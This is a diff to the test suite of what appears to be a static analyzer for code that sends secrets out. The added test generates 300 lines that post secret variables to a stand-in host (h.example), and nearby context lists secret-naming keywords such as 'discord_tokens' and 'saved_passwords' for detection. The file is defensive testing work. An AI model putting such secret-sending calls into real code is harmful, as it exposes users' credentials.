@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import pytest
+
 from capwatch.config import Limits
 from capwatch.lang.base import EdgeKind, FileAnalysis, ProblemKind, ScopeKind
 from capwatch.lang.python.analyzer import PythonAnalyzer, module_name_for
@@ -600,3 +602,24 @@ def test_words_that_name_a_secret_and_words_that_do_not() -> None:
     assert sent == [
         (5, ("accessKeySecret", "botToken", "discord_tokens", "saved_passwords", "token")),
     ]
+
+
+def test_where_names_are_bound_is_worked_out_once_per_scope(monkeypatch: pytest.MonkeyPatch) -> None:
+    """A module with thousands of requests that each send a name must not walk the module once
+    per request (a hostile file would make that quadratic)."""
+    from capwatch.lang.python import analyzer as front_end
+
+    walks: list[int] = []
+    index = front_end._assignment_index
+
+    def counted(body: object) -> object:
+        walks.append(1)
+        return index(body)  # type: ignore[arg-type]
+
+    monkeypatch.setattr(front_end, "_assignment_index", counted)
+    lines = ["import requests"]
+    for i in range(300):
+        lines += [f"secret_{i % 7} = 'x'", f"requests.post('https://h.example/x', json=secret_{i % 7})"]
+    result = analyze("\n".join(lines) + "\n")
+    assert len(walks) == 1
+    assert sum(f.kind is FactKind.SECRET_SENT for f in result.facts) == 300
